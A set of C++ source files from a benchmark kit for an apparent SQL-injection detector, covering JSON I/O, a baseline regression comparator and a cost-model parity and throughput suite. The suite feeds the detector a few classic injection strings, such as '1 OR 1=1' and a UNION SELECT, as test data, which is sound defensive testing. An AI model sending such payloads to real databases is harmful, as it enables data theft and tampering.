  const std::string pad_in(static_cast<std::size_t>(indent + 1) * 2, ' ');
  switch (type_) {
    case Type::kNull: out += "null"; break;
    case Type::kBool: out += bool_ ? "true" : "false"; break;
    case Type::kNumber: AppendNumber(out, number_); break;
    case Type::kString: AppendEscaped(out, string_); break;
    case Type::kArray: {
      if (array_.empty()) {
        out += "[]";
        break;
      }
      out += "[\n";
      for (std::size_t i = 0; i < array_.size(); ++i) {
        out += pad_in;
        array_[i].DumpTo(out, indent + 1);
        if (i + 1 < array_.size()) out += ",";
        out += "\n";
      }
      out += pad + "]";
      break;
    }
    case Type::kObject: {
      if (object_.empty()) {
        out += "{}";
        break;
      }
      out += "{\n";
      for (std::size_t i = 0; i < object_.size(); ++i) {
        out += pad_in;
        AppendEscaped(out, object_[i].first);
        out += ": ";
        object_[i].second.DumpTo(out, indent + 1);
        if (i + 1 < object_.size()) out += ",";
        out += "\n";
      }
      out += pad + "}";
      break;
    }
  }
}

std::string Json::Dump() const {
  std::string out;
  DumpTo(out, 0);
  out += "\n";
  return out;
}

StatusOr<Json> Json::Parse(const std::string& text) {
  return Parser(text).Parse();
}

StatusOr<Json> ReadJsonFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    return StatusOr<Json>(Status::NotFound("no such file: " + path));
  }
  std::ostringstream buf;
  buf << in.rdbuf();
  if (!in.good() && !in.eof()) {
    return StatusOr<Json>(Status::Internal("read failed: " + path));
  }
  return Json::Parse(buf.str());
}

Status WriteJsonFile(const std::string& path, const Json& value) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) return Status::Internal("cannot open for write: " + path);
  out << value.Dump();
  out.flush();
  if (!out.good()) return Status::Internal("write failed: " + path);
  return Status::Ok();
}

}  // namespace joza::benchkit
