// Regression comparator: diffs a fresh SuiteResult against a committed
// BENCH_<suite>.json baseline under each metric's tolerance band.
//
// Semantics:
//   * Only metrics whose baseline entry carries a non-info direction are
//     compared; info metrics (absolute QPS/latency, machine-dependent) are
//     recorded for the trajectory but never fail the gate.
//   * higher_better regresses when fresh < base * (1 - tolerance) - slack;
//     lower_better when fresh > base * (1 + tolerance) + slack; exact on
//     any change.
//   * A metric present in the baseline but missing from the fresh run is a
//     regression (coverage loss). A metric new in the fresh run is noted
//     but passes — committing the refreshed file adopts it.
//   * Schema or suite mismatch refuses to compare (update the baseline).
#pragma once

#include <string>
#include <vector>

#include "benchkit/json.h"
#include "benchkit/result.h"

namespace joza::benchkit {

enum class DiffKind {
  kOk,             // within the band
  kImproved,       // outside the band in the good direction
  kRegressed,      // outside the band in the bad direction
  kMissingFresh,   // in baseline, absent from the fresh run
  kNewMetric,      // in fresh run, absent from baseline
  kNotCompared,    // info metric
};

const char* DiffKindName(DiffKind k);

struct MetricDiff {
  std::string name;
  DiffKind kind = DiffKind::kOk;
  double baseline = 0;
  double fresh = 0;
  double tolerance = 0;
  std::string message;  // human-readable, filled for non-kOk kinds
};

enum class ComparisonStatus {
  kOk,              // compared, no regressions
  kRegressed,       // at least one metric outside its band
  kNoBaseline,      // baseline file missing
  kBadBaseline,     // unparsable / schema or suite mismatch
};

struct Comparison {
  ComparisonStatus status = ComparisonStatus::kOk;
  std::string error;  // for kNoBaseline / kBadBaseline
  std::vector<MetricDiff> diffs;

  bool ok() const { return status == ComparisonStatus::kOk; }
  std::size_t regressions() const;
  // Prints every non-kOk diff (and a summary line); returns ok().
  bool Report() const;
};

// Compare a fresh result against a parsed baseline document.
Comparison CompareToBaseline(const Json& baseline, const SuiteResult& fresh);

// Convenience: load `path` and compare; a missing file yields kNoBaseline.
Comparison CompareToBaselineFile(const std::string& path,
                                 const SuiteResult& fresh);

}  // namespace joza::benchkit
