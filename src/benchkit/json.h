// Minimal JSON model for the BENCH_*.json files: a value type with
// insertion-ordered objects, a writer with stable two-space indentation
// (diff-friendly baselines under version control), and a strict
// recursive-descent parser. No external dependencies.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "util/status.h"

namespace joza::benchkit {

class Json;
using JsonArray = std::vector<Json>;
// Insertion-ordered: emitted files keep a stable field order run to run.
using JsonObject = std::vector<std::pair<std::string, Json>>;

class Json {
 public:
  enum class Type { kNull, kBool, kNumber, kString, kArray, kObject };

  Json() : type_(Type::kNull) {}
  Json(bool b) : type_(Type::kBool), bool_(b) {}
  Json(double d) : type_(Type::kNumber), number_(d) {}
  Json(int i) : type_(Type::kNumber), number_(i) {}
  Json(std::int64_t i)
      : type_(Type::kNumber), number_(static_cast<double>(i)) {}
  Json(std::uint64_t u)
      : type_(Type::kNumber), number_(static_cast<double>(u)) {}
  Json(const char* s) : type_(Type::kString), string_(s) {}
  Json(std::string s) : type_(Type::kString), string_(std::move(s)) {}
  Json(JsonArray a) : type_(Type::kArray), array_(std::move(a)) {}
  Json(JsonObject o) : type_(Type::kObject), object_(std::move(o)) {}

  Type type() const { return type_; }
  bool is_null() const { return type_ == Type::kNull; }
  bool is_bool() const { return type_ == Type::kBool; }
  bool is_number() const { return type_ == Type::kNumber; }
  bool is_string() const { return type_ == Type::kString; }
  bool is_array() const { return type_ == Type::kArray; }
  bool is_object() const { return type_ == Type::kObject; }

  // Typed accessors; wrong-type access returns the neutral value rather
  // than asserting (comparators must survive malformed baselines).
  bool AsBool(bool fallback = false) const {
    return is_bool() ? bool_ : fallback;
  }
  double AsNumber(double fallback = 0) const {
    return is_number() ? number_ : fallback;
  }
  const std::string& AsString() const { return string_; }
  const JsonArray& AsArray() const { return array_; }
  const JsonObject& AsObject() const { return object_; }

  // Object helpers. Find returns nullptr when absent or not an object.
  const Json* Find(const std::string& key) const;
  void Set(std::string key, Json value);  // replaces an existing key

  // Serializes with two-space indentation and a trailing newline at the
  // top level (git-friendly).
  std::string Dump() const;

  static StatusOr<Json> Parse(const std::string& text);

 private:
  void DumpTo(std::string& out, int indent) const;

  Type type_;
  bool bool_ = false;
  double number_ = 0;
  std::string string_;
  JsonArray array_;
  JsonObject object_;
};

// File round trip. ReadJsonFile distinguishes "missing file" (kNotFound)
// from "unreadable/unparsable" (kInternal / kInvalidArgument).
StatusOr<Json> ReadJsonFile(const std::string& path);
Status WriteJsonFile(const std::string& path, const Json& value);

}  // namespace joza::benchkit
