// Shared run-a-suite-and-report driver used by the joza_bench CLI and the
// legacy gating bench wrappers: execute the suite, print its gates, emit
// the BENCH_<suite>.json, and (optionally) diff against a baseline.
#pragma once

#include <string>

#include "benchkit/result.h"

namespace joza::benchkit {

struct RunnerOptions {
  SuiteOptions suite;
  // Where the fresh BENCH_<suite>.json goes; empty skips emission.
  std::string out_path;
  // Baseline to diff against; empty skips the comparison.
  std::string baseline_path;
  // With check_baseline, a regression (or missing/mismatched baseline)
  // fails the run.
  bool check_baseline = false;
};

// Runs the named suite end to end. Exit-code contract (shared by every
// gating bench): 0 = all gates passed and no baseline regression,
// 1 = a gate failed or a compared metric regressed, 2 = unknown suite or
// I/O failure. Every failure names the offending metric and threshold on
// stdout/stderr before returning.
int RunSuiteAndReport(const std::string& suite_name,
                      const RunnerOptions& options);

// The legacy wrapper entry: parses the small shared flag set
// (--seed N, --quick) and runs the suite gates-only (no JSON, no
// baseline). Keeps bench_<name> binaries' exit codes consistent.
int LegacyGateMain(const std::string& suite_name, int argc, char** argv);

}  // namespace joza::benchkit
