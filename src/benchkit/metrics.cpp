#include "benchkit/metrics.h"

#include <algorithm>
#include <cmath>

namespace joza::benchkit {

double PercentileSorted(const std::vector<double>& sorted, double p) {
  if (sorted.empty()) return 0;
  if (sorted.size() == 1) return sorted.front();
  p = std::clamp(p, 0.0, 1.0);
  const double rank = p * static_cast<double>(sorted.size() - 1);
  const std::size_t lo = static_cast<std::size_t>(rank);
  const std::size_t hi = std::min(lo + 1, sorted.size() - 1);
  const double frac = rank - static_cast<double>(lo);
  return sorted[lo] + (sorted[hi] - sorted[lo]) * frac;
}

double Percentile(std::vector<double> samples, double p) {
  std::sort(samples.begin(), samples.end());
  return PercentileSorted(samples, p);
}

void LatencyRecorder::Merge(const LatencyRecorder& other) {
  // Only the other recorder's steady-state samples carry over; warmup
  // samples are phase-local noise by definition.
  samples_.insert(samples_.end(), other.samples_.begin() + other.warmup_end_,
                  other.samples_.end());
}

LatencySummary LatencyRecorder::Summary() const {
  LatencySummary s;
  std::vector<double> steady(samples_.begin() + warmup_end_, samples_.end());
  s.count = steady.size();
  if (steady.empty()) return s;
  double total = 0;
  for (double v : steady) total += v;
  s.mean = total / static_cast<double>(steady.size());
  std::sort(steady.begin(), steady.end());
  s.p50 = PercentileSorted(steady, 0.50);
  s.p95 = PercentileSorted(steady, 0.95);
  s.p99 = PercentileSorted(steady, 0.99);
  s.max = steady.back();
  return s;
}

double LatencyRecorder::Qps(double steady_seconds) const {
  if (steady_seconds <= 0) return 0;
  return static_cast<double>(count()) / steady_seconds;
}

}  // namespace joza::benchkit
