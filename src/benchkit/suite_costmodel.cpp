// costmodel: the calibrated-cost-model gate.
//
// Phase 1 (calibrate): runs the quick calibration sweep in-process, gates
// the codec invariants (round trip is bit-exact, corrupt artifacts are
// refused with the fail-closed counter bumped, the fitted model passes the
// plausibility check). Coefficients are machine-dependent and recorded as
// trajectory info only.
// Phase 2 (parity, gated): staged matching under the measured model — and
// under adversarial all-zero / all-huge models — must stay fully
// verdict-identical to the reference tier over the attack catalog and a
// randomized corpus. Zero differences allowed: the cost model may only
// move cycles, never verdicts.
// Phase 3 (throughput, gated): the same benign many-input workload run
// with builtin heuristics vs the measured model. Decisions coincide on
// this workload shape, so the calibrated run must not be slower (gated at
// 0.9x as a timer-noise guard, not an allowance for real regression).
// Phase 4 (batching, gated): the batch-admission decision (PlanBatchScope)
// under the measured model must agree with the builtin cutoff for every
// batch size — the mathematical consequence of non-negative fitted
// coefficients, checked here against the real fit.
#include <algorithm>
#include <memory>
#include <string>
#include <vector>

#include "attack/catalog.h"
#include "attack/evasion.h"
#include "attack/exploit.h"
#include "benchkit/metrics.h"
#include "benchkit/suites.h"
#include "costmodel/calibrate.h"
#include "costmodel/codec.h"
#include "costmodel/costmodel.h"
#include "costmodel/planner.h"
#include "http/request.h"
#include "nti/nti.h"
#include "sqlparse/critical.h"
#include "sqlparse/lexer.h"
#include "util/rng.h"
#include "util/stopwatch.h"

namespace joza::benchkit {

namespace {

using ModelPtr = std::shared_ptr<const costmodel::CostModel>;

// --- Phase 1: calibration + codec ------------------------------------------

ModelPtr CalibratePhase(SuiteResult& result, const SuiteOptions& options) {
  costmodel::CalibrationOptions copts;
  copts.quick = true;  // the full sweep is an offline job, not a CI gate
  copts.seed = options.seed;
  Stopwatch watch;
  const costmodel::CostModel model = costmodel::Calibrate(copts);
  result.AddInfo("calibrate.seconds", watch.ElapsedSeconds(), "s");

  result.AddExact("codec.model_valid",
                  costmodel::ValidateModel(model).ok() ? 1 : 0);

  const std::string image = costmodel::EncodeCostModel(model);
  auto parsed = costmodel::ParseCostModel(image);
  const bool roundtrip =
      parsed.ok() && costmodel::EncodeCostModel(parsed.value()) == image;
  result.AddExact("codec.roundtrip_ok", roundtrip ? 1 : 0);

  // Fail-closed: a one-byte corruption must be refused and counted.
  costmodel::ResetCodecStats();
  std::string corrupt = image;
  corrupt[image.size() / 2] = static_cast<char>(corrupt[image.size() / 2] ^ 1);
  result.AddExact("codec.corrupt_rejected",
                  costmodel::ParseCostModel(corrupt).ok() ? 0 : 1);
  result.AddExact(
      "codec.corrupt_counted",
      static_cast<double>(costmodel::GetCodecStats().parse_failures));

  Table table({"Stage", "base_ns", "per_byte_ns"});
  for (std::size_t i = 0; i < costmodel::kStageCount; ++i) {
    const auto stage = static_cast<costmodel::Stage>(i);
    const costmodel::StageCurve& c = model.curve(stage);
    // Measured on this machine: trajectory info, never baseline-compared.
    result.AddInfo(std::string("curve.") + costmodel::StageName(stage) +
                       ".base_ns",
                   c.base_ns, "ns");
    result.AddInfo(std::string("curve.") + costmodel::StageName(stage) +
                       ".per_byte_ns",
                   c.per_byte_ns, "ns");
    table.AddRow({costmodel::StageName(stage), Num(c.base_ns, 2),
                  Num(c.per_byte_ns, 4)});
  }
  table.Print("Calibrated stage cost curves (quick sweep)");

  result.RequireEq("fitted model passes the plausibility gate",
                   "codec.model_valid", 1);
  result.RequireEq("JZCM01 round trip is bit-exact", "codec.roundtrip_ok", 1);
  result.RequireEq("corrupt artifact is refused", "codec.corrupt_rejected",
                   1);
  result.RequireEq("refusal bumps the fail-closed counter",
                   "codec.corrupt_counted", 1);
  return std::make_shared<const costmodel::CostModel>(model);
}

// --- Phase 2: verdict parity under any model --------------------------------

struct Case {
  std::string query;
  std::vector<http::Input> inputs;
};

std::vector<Case> CatalogCases() {
  std::vector<Case> cases;
  for (const attack::PluginSpec& p : attack::PluginCatalog()) {
    attack::Exploit orig = attack::OriginalExploit(p);
    cases.push_back({attack::QueryFor(p, orig.payload),
                     attack::InputsFor(p, orig.payload)});
    nti::NtiConfig reference;
    attack::NtiMutation m = attack::MutateForNtiEvasion(p, orig, reference);
    if (m.possible) {
      cases.push_back({attack::QueryFor(p, m.exploit.payload),
                       attack::InputsFor(p, m.exploit.payload)});
    }
  }
  return cases;
}

std::vector<Case> RandomCases(std::uint64_t seed, int count) {
  static const char* kTemplates[] = {
      "SELECT a FROM t WHERE x = ",
      "SELECT a FROM t WHERE s = 'v' AND x = ",
      "UPDATE t SET a = 1 WHERE k = ",
  };
  static const char* kPayloads[] = {
      "1 OR 1=1", "9", "abc", "1 UNION SELECT x", "zz' OR 'a'='a",
  };
  Rng rng(seed);
  std::vector<Case> cases;
  for (int i = 0; i < count; ++i) {
    std::string payload = rng.NextBool(0.5)
                              ? kPayloads[rng.NextBelow(std::size(kPayloads))]
                              : rng.NextToken(1 + rng.NextBelow(12));
    std::string in_query = payload;
    if (rng.NextBool(0.3) && !in_query.empty()) {
      in_query.erase(rng.NextBelow(in_query.size()), 1);
    }
    Case c;
    c.query =
        std::string(kTemplates[rng.NextBelow(std::size(kTemplates))]) +
        in_query;
    c.inputs = {{http::InputKind::kGet, "p", payload},
                {http::InputKind::kCookie, "session", rng.NextToken(16)}};
    // Widen some cases so the exact stage crosses the automaton cutoff
    // both ways under the builtin heuristic.
    const std::size_t extra = rng.NextBelow(8);
    for (std::size_t k = 0; k < extra; ++k) {
      c.inputs.push_back({http::InputKind::kHeader,
                          "x-" + std::to_string(k),
                          rng.NextToken(4 + rng.NextBelow(12))});
    }
    cases.push_back(std::move(c));
  }
  return cases;
}

bool SameOutcome(const nti::NtiResult& a, const nti::NtiResult& b) {
  if (a.attack_detected != b.attack_detected) return false;
  if (a.markings.size() != b.markings.size()) return false;
  for (std::size_t i = 0; i < a.markings.size(); ++i) {
    if (a.markings[i].span.begin != b.markings[i].span.begin ||
        a.markings[i].span.end != b.markings[i].span.end ||
        a.markings[i].distance != b.markings[i].distance ||
        a.markings[i].input_name != b.markings[i].input_name) {
      return false;
    }
  }
  if (a.tainted_critical_tokens.size() != b.tainted_critical_tokens.size()) {
    return false;
  }
  for (std::size_t i = 0; i < a.tainted_critical_tokens.size(); ++i) {
    if (a.tainted_critical_tokens[i].span.begin !=
            b.tainted_critical_tokens[i].span.begin ||
        a.tainted_critical_tokens[i].span.end !=
            b.tainted_critical_tokens[i].span.end) {
      return false;
    }
  }
  return true;
}

void ParityPhase(SuiteResult& result, const SuiteOptions& options,
                 const ModelPtr& measured) {
  // Adversarially wrong models: all-zero (automaton always "free") and an
  // all-huge build (automaton never amortizes).
  auto zero = std::make_shared<const costmodel::CostModel>();
  costmodel::CostModel huge;
  for (std::size_t i = 0; i < costmodel::kStageCount; ++i) {
    huge.stages[i] = {1.0, 0.001};
  }
  huge.curve(costmodel::Stage::kAcBuild) = {costmodel::kMaxPlausibleNs,
                                            costmodel::kMaxPlausibleNs};

  struct Variant {
    const char* name;
    ModelPtr model;  // null = builtin heuristics
  };
  const Variant kVariants[] = {
      {"builtin", nullptr},
      {"measured", measured},
      {"zero", zero},
      {"huge", std::make_shared<const costmodel::CostModel>(huge)},
  };

  std::vector<Case> cases = CatalogCases();
  for (Case& c : RandomCases(options.seed + 99, options.quick ? 80 : 300)) {
    cases.push_back(std::move(c));
  }

  nti::NtiConfig ref_cfg;
  ref_cfg.tier = nti::MatchTier::kReference;
  const nti::NtiAnalyzer reference(ref_cfg);

  Table table({"Model", "Cases", "Diffs"});
  std::size_t total_diffs = 0;
  for (const Variant& v : kVariants) {
    nti::NtiConfig cfg;  // staged tier (the default)
    cfg.cost_model = v.model;
    const nti::NtiAnalyzer staged(cfg);
    std::size_t diffs = 0;
    for (const Case& c : cases) {
      if (!SameOutcome(staged.Analyze(c.query, c.inputs),
                       reference.Analyze(c.query, c.inputs))) {
        ++diffs;
      }
    }
    total_diffs += diffs;
    result.AddExact(std::string("parity.") + v.name + ".diffs",
                    static_cast<double>(diffs));
    table.AddRow({v.name, std::to_string(cases.size()),
                  std::to_string(diffs)});
  }
  table.Print("Parity: staged under each cost model vs reference");
  result.AddExact("parity.cases", static_cast<double>(cases.size()));
  result.AddExact("parity.total_diffs", static_cast<double>(total_diffs));
  result.RequireEq("no cost model changes any verdict", "parity.total_diffs",
                   0);
}

// --- Phase 3: builtin vs calibrated throughput ------------------------------

struct Sample {
  std::string query;
  std::vector<http::Input> inputs;
  std::vector<sql::Token> critical;
};

std::vector<Sample> BenignSamples(std::size_t count, std::uint64_t seed) {
  Rng rng(seed);
  std::vector<Sample> samples;
  for (std::size_t i = 0; i < count; ++i) {
    Sample s;
    std::string values;
    const std::size_t n = 4 + rng.NextBelow(20);
    for (std::size_t k = 0; k < n; ++k) {
      const std::string v = rng.NextToken(5 + rng.NextBelow(14));
      s.inputs.push_back(
          {http::InputKind::kHeader, "h" + std::to_string(k), v});
      if (k < 4) values += "'" + v + "',";
    }
    s.query = "SELECT id, title FROM wp_posts WHERE tag IN (" + values +
              "'end') AND note <> '" + std::string(200, 'p') +
              "' ORDER BY id LIMIT 40";
    s.critical = sql::CriticalTokens(sql::Lex(s.query), false);
    samples.push_back(std::move(s));
  }
  return samples;
}

void ThroughputPhase(SuiteResult& result, const SuiteOptions& options,
                     const ModelPtr& measured) {
  const std::vector<Sample> samples =
      BenignSamples(options.quick ? 60 : 200, options.seed + 7);
  const int rounds = options.quick ? 8 : 24;

  auto make_analyzer = [](const ModelPtr& model) {
    nti::NtiConfig cfg;
    cfg.cost_model = model;
    return nti::NtiAnalyzer(cfg);
  };
  const nti::NtiAnalyzer builtin_an = make_analyzer(nullptr);
  const nti::NtiAnalyzer calibrated_an = make_analyzer(measured);

  auto warmup = [&](const nti::NtiAnalyzer& analyzer,
                    nti::NtiResult* totals) {
    for (const Sample& s : samples) {
      const nti::NtiResult r =
          analyzer.AnalyzeCritical(s.query, s.critical, s.inputs);
      totals->planner_exact_automaton += r.planner_exact_automaton;
      totals->planner_exact_find += r.planner_exact_find;
      totals->planner_calibrated += r.planner_calibrated;
      totals->attack_detected |= r.attack_detected;
    }
  };
  nti::NtiResult builtin_totals, calibrated_totals;
  warmup(builtin_an, &builtin_totals);
  warmup(calibrated_an, &calibrated_totals);

  auto time_pass = [&](const nti::NtiAnalyzer& analyzer) {
    Stopwatch watch;
    for (const Sample& s : samples) {
      (void)analyzer.AnalyzeCritical(s.query, s.critical, s.inputs);
    }
    return watch.ElapsedSeconds();
  };
  // Interleave the two planners round by round and keep the best pass of
  // each: clock-frequency drift hits both sides of every round equally,
  // so the min-vs-min ratio isolates the planner overhead itself.
  double builtin_best = 1e300;
  double calibrated_best = 1e300;
  for (int r = 0; r < rounds; ++r) {
    builtin_best = std::min(builtin_best, time_pass(builtin_an));
    calibrated_best = std::min(calibrated_best, time_pass(calibrated_an));
  }
  const double builtin_cps =
      static_cast<double>(samples.size()) / std::max(builtin_best, 1e-9);
  const double calibrated_cps =
      static_cast<double>(samples.size()) / std::max(calibrated_best, 1e-9);
  const double ratio = calibrated_cps / (builtin_cps > 0 ? builtin_cps : 1e-9);

  result.AddInfo("throughput.builtin_checks_per_sec", builtin_cps, "qps");
  result.AddInfo("throughput.calibrated_checks_per_sec", calibrated_cps,
                 "qps");
  result.AddInfo("throughput.calibrated_speedup_x", ratio, "x");
  // Builtin decisions are seed-deterministic; calibrated ones depend on
  // the machine's measured curves, so only their sum is invariant.
  result.AddExact("throughput.builtin.planner_automaton",
                  static_cast<double>(builtin_totals.planner_exact_automaton));
  result.AddExact("throughput.builtin.planner_find",
                  static_cast<double>(builtin_totals.planner_exact_find));
  result.AddExact("throughput.builtin.planner_calibrated",
                  static_cast<double>(builtin_totals.planner_calibrated));
  result.AddInfo("throughput.calibrated.planner_automaton",
                 static_cast<double>(
                     calibrated_totals.planner_exact_automaton),
                 "count");
  result.AddInfo("throughput.calibrated.planner_find",
                 static_cast<double>(calibrated_totals.planner_exact_find),
                 "count");
  result.AddExact("throughput.benign_flagged",
                  (builtin_totals.attack_detected ||
                   calibrated_totals.attack_detected)
                      ? 1
                      : 0);

  Table table({"Planner", "checks/s", "automaton", "find"});
  table.AddRow({"builtin", Num(builtin_cps, 0),
                std::to_string(builtin_totals.planner_exact_automaton),
                std::to_string(builtin_totals.planner_exact_find)});
  table.AddRow({"calibrated", Num(calibrated_cps, 0),
                std::to_string(calibrated_totals.planner_exact_automaton),
                std::to_string(calibrated_totals.planner_exact_find)});
  table.Print("Throughput: builtin heuristics vs measured model");

  result.RequireEq("benign workload is never flagged",
                   "throughput.benign_flagged", 0);
  // Both planners drive the same matcher kernels; the target is >= 1.0x
  // and the slack below it is a timer-noise guard for shared CI machines,
  // not an allowance for worse decisions — a genuinely wrong strategy
  // flip (automaton where find wins, or vice versa) swings this workload
  // by far more than 10%.
  result.RequireGe("measured model is no slower than hand-tuned heuristics",
                   "throughput.calibrated_speedup_x", 0.9);
}

// --- Phase 4: batch-admission agreement -------------------------------------

void BatchingPhase(SuiteResult& result, const ModelPtr& measured) {
  const costmodel::Planner builtin;
  const costmodel::Planner calibrated(measured);
  std::size_t disagreements = 0;
  for (std::size_t n = 0; n <= 64; ++n) {
    if (builtin.PlanBatchScope(n) != calibrated.PlanBatchScope(n)) {
      ++disagreements;
    }
  }
  result.AddExact("batching.decision_disagreements",
                  static_cast<double>(disagreements));
  // Non-negative fitted coefficients make the shared automaton build no
  // worse for every n >= 2, so the calibrated admission decision must
  // coincide with the legacy batch_min cutoff exactly.
  result.RequireEq("batch admission decisions match the legacy cutoff",
                   "batching.decision_disagreements", 0);
}

}  // namespace

SuiteResult RunCostmodelSuite(const SuiteOptions& options) {
  SuiteResult result("costmodel", options);
  const ModelPtr measured = CalibratePhase(result, options);
  ParityPhase(result, options, measured);
  ThroughputPhase(result, options, measured);
  BatchingPhase(result, measured);
  return result;
}

}  // namespace joza::benchkit
