#include "benchkit/compare.h"

#include <cmath>
#include <cstdio>

namespace joza::benchkit {

namespace {

Direction ParseDirection(const std::string& name) {
  if (name == "higher_better") return Direction::kHigherBetter;
  if (name == "lower_better") return Direction::kLowerBetter;
  if (name == "exact") return Direction::kExact;
  return Direction::kInfo;
}

std::string FormatBand(double base, double tolerance, double slack,
                       Direction dir) {
  char buf[128];
  if (dir == Direction::kExact) {
    std::snprintf(buf, sizeof buf, "exactly %g", base);
  } else if (dir == Direction::kHigherBetter) {
    std::snprintf(buf, sizeof buf, ">= %g (base %g - %g%% - %g)",
                  base * (1 - tolerance) - slack, base, tolerance * 100,
                  slack);
  } else {
    std::snprintf(buf, sizeof buf, "<= %g (base %g + %g%% + %g)",
                  base * (1 + tolerance) + slack, base, tolerance * 100,
                  slack);
  }
  return buf;
}

}  // namespace

const char* DiffKindName(DiffKind k) {
  switch (k) {
    case DiffKind::kOk: return "ok";
    case DiffKind::kImproved: return "improved";
    case DiffKind::kRegressed: return "regressed";
    case DiffKind::kMissingFresh: return "missing_in_fresh_run";
    case DiffKind::kNewMetric: return "new_metric";
    case DiffKind::kNotCompared: return "not_compared";
  }
  return "ok";
}

std::size_t Comparison::regressions() const {
  std::size_t n = 0;
  for (const MetricDiff& d : diffs) {
    if (d.kind == DiffKind::kRegressed || d.kind == DiffKind::kMissingFresh) {
      ++n;
    }
  }
  return n;
}

bool Comparison::Report() const {
  if (status == ComparisonStatus::kNoBaseline ||
      status == ComparisonStatus::kBadBaseline) {
    std::printf("baseline comparison failed: %s\n", error.c_str());
    std::fflush(stdout);
    return false;
  }
  std::size_t compared = 0;
  for (const MetricDiff& d : diffs) {
    switch (d.kind) {
      case DiffKind::kOk:
        ++compared;
        break;
      case DiffKind::kNotCompared:
        break;
      case DiffKind::kImproved:
        ++compared;
        std::printf("baseline IMPROVED: %s\n", d.message.c_str());
        break;
      case DiffKind::kNewMetric:
        std::printf("baseline note: %s\n", d.message.c_str());
        break;
      case DiffKind::kRegressed:
      case DiffKind::kMissingFresh:
        ++compared;
        std::printf("baseline REGRESSION: %s\n", d.message.c_str());
        break;
    }
  }
  std::printf("baseline check: %zu metrics compared, %zu regressions\n",
              compared, regressions());
  std::fflush(stdout);
  return ok();
}

Comparison CompareToBaseline(const Json& baseline, const SuiteResult& fresh) {
  Comparison cmp;
  const Json* schema = baseline.Find("schema_version");
  if (schema == nullptr || !schema->is_number()) {
    cmp.status = ComparisonStatus::kBadBaseline;
    cmp.error = "baseline has no schema_version field";
    return cmp;
  }
  if (static_cast<int>(schema->AsNumber()) != kSchemaVersion) {
    cmp.status = ComparisonStatus::kBadBaseline;
    char buf[128];
    std::snprintf(buf, sizeof buf,
                  "schema_version mismatch: baseline %d, runner %d "
                  "(re-generate the baseline)",
                  static_cast<int>(schema->AsNumber()), kSchemaVersion);
    cmp.error = buf;
    return cmp;
  }
  const Json* suite = baseline.Find("suite");
  if (suite == nullptr || suite->AsString() != fresh.suite()) {
    cmp.status = ComparisonStatus::kBadBaseline;
    cmp.error = "suite mismatch: baseline is for '" +
                (suite ? suite->AsString() : std::string("?")) +
                "', fresh run is '" + fresh.suite() + "'";
    return cmp;
  }
  const Json* metrics = baseline.Find("metrics");
  if (metrics == nullptr || !metrics->is_object()) {
    cmp.status = ComparisonStatus::kBadBaseline;
    cmp.error = "baseline has no metrics object";
    return cmp;
  }

  // Baseline-driven pass: every baseline metric must be present and within
  // its band (the baseline's band — the committed file is the contract).
  for (const auto& [name, entry] : metrics->AsObject()) {
    MetricDiff d;
    d.name = name;
    const Json* value = entry.Find("value");
    const Json* dir_field = entry.Find("direction");
    const Direction dir =
        dir_field ? ParseDirection(dir_field->AsString()) : Direction::kInfo;
    d.baseline = value ? value->AsNumber() : 0;
    const Json* tol = entry.Find("tolerance");
    const Json* slack = entry.Find("abs_slack");
    d.tolerance = tol ? tol->AsNumber() : 0;
    const double abs_slack = slack ? slack->AsNumber() : 0;

    const Metric* fresh_metric = fresh.FindMetric(name);
    if (dir == Direction::kInfo) {
      d.kind = DiffKind::kNotCompared;
      d.fresh = fresh_metric ? fresh_metric->value : 0;
      cmp.diffs.push_back(std::move(d));
      continue;
    }
    if (fresh_metric == nullptr) {
      d.kind = DiffKind::kMissingFresh;
      d.message = name + ": present in baseline (value " +
                  std::to_string(d.baseline) +
                  ") but the fresh run never recorded it";
      cmp.diffs.push_back(std::move(d));
      continue;
    }
    d.fresh = fresh_metric->value;
    bool regressed = false;
    bool improved = false;
    switch (dir) {
      case Direction::kExact:
        regressed = d.fresh != d.baseline;
        break;
      case Direction::kHigherBetter:
        regressed = d.fresh < d.baseline * (1 - d.tolerance) - abs_slack;
        improved = d.fresh > d.baseline * (1 + d.tolerance) + abs_slack;
        break;
      case Direction::kLowerBetter:
        regressed = d.fresh > d.baseline * (1 + d.tolerance) + abs_slack;
        improved = d.fresh < d.baseline * (1 - d.tolerance) - abs_slack;
        break;
      case Direction::kInfo:
        break;
    }
    if (regressed) {
      d.kind = DiffKind::kRegressed;
      char buf[256];
      std::snprintf(buf, sizeof buf, "%s: fresh %g vs required %s",
                    name.c_str(), d.fresh,
                    FormatBand(d.baseline, d.tolerance, abs_slack, dir)
                        .c_str());
      d.message = buf;
    } else if (improved) {
      d.kind = DiffKind::kImproved;
      char buf[256];
      std::snprintf(buf, sizeof buf,
                    "%s: fresh %g beats baseline %g by more than the "
                    "%g%% band — consider refreshing the baseline",
                    name.c_str(), d.fresh, d.baseline, d.tolerance * 100);
      d.message = buf;
    }
    cmp.diffs.push_back(std::move(d));
  }

  // Fresh-driven pass: surface metrics the baseline does not know yet.
  for (const Metric& m : fresh.metrics()) {
    if (metrics->Find(m.name) != nullptr) continue;
    MetricDiff d;
    d.name = m.name;
    d.kind = DiffKind::kNewMetric;
    d.fresh = m.value;
    d.message = m.name + ": new metric (value " + std::to_string(m.value) +
                "), not in baseline — commit a refreshed baseline to track "
                "it";
    cmp.diffs.push_back(std::move(d));
  }

  cmp.status = cmp.regressions() == 0 ? ComparisonStatus::kOk
                                      : ComparisonStatus::kRegressed;
  return cmp;
}

Comparison CompareToBaselineFile(const std::string& path,
                                 const SuiteResult& fresh) {
  StatusOr<Json> baseline = ReadJsonFile(path);
  if (!baseline.ok()) {
    Comparison cmp;
    cmp.status = baseline.status().code() == StatusCode::kNotFound
                     ? ComparisonStatus::kNoBaseline
                     : ComparisonStatus::kBadBaseline;
    cmp.error = baseline.status().ToString() + " (path: " + path + ")";
    return cmp;
  }
  return CompareToBaseline(baseline.value(), fresh);
}

}  // namespace joza::benchkit
