// attack_heavy: the full exploit catalog against the protected testbed,
// plus throughput on a benign/attack traffic mix.
//
// Phase 1 (gated): every catalog plugin's original exploit AND its
// NTI-evasion mutant (when one exists) is delivered end-to-end — with the
// plugin's transport encoding — against the Joza-protected app; none may
// succeed (the paper's 53/53 hybrid column).
// Phase 2: a mixed stream (benign crawl + raw exploit requests) served
// in-process for QPS/latency under attack-heavy traffic, with the
